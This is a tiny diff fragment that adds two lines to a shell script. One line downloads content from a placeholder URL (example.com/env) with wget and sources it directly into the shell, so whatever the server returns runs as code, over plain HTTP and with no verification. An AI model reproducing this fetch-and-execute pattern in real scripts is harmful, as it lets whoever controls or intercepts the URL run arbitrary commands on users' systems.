@@ -1,0 +1,2 @@
+set -eu
+source /dev/stdin <<<"$(wget -O- http://example.com/env)"
